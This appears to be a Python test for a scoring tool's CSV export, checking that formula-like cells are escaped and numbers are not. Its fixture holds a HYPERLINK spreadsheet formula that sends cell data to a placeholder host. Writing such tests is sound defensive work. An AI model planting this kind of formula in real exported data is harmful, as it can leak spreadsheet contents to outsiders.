"""Issue 14, finding 7: a pairs.csv cell never opens as a spreadsheet formula."""

from __future__ import annotations

import csv
import io

from doc2slm_scoring.report.pairs_csv import COLUMNS, pairs_csv
from doc2slm_scoring.report.records import AnswerRecord
from doc2slm_scoring.report.scored import ScoredRecord, SystemScore


def test_formula_like_text_is_escaped_and_numbers_are_not() -> None:
    record = AnswerRecord(set_name="eval", question='=HYPERLINK("http://x.example/?"&A1,"click")',
                          reference="+1 555 0100", base_answer="-2+3", tuned_answer="@SUM(A1:A9)",
                          doc_id="\tdoc", chunk_id="plain")
    scores = {"base": SystemScore(0.5, 0.1, 0.1, "borderline", False),
              "tuned": SystemScore(0.25, 0.1, 0.1, "unacceptable", False)}
    (row,) = list(csv.DictReader(io.StringIO(pairs_csv({"eval": [ScoredRecord(record, scores)]}))))
    assert list(row) == COLUMNS
    assert row["question"] == "'" + record.question and row["reference"] == "'+1 555 0100"
    assert row["base_answer"] == "'-2+3" and row["tuned_answer"] == "'@SUM(A1:A9)" and row["doc_id"] == "'\tdoc"
    assert row["chunk_id"] == "plain"
    assert row["cosine_difference"] == "-0.250000"  # a number stays a number
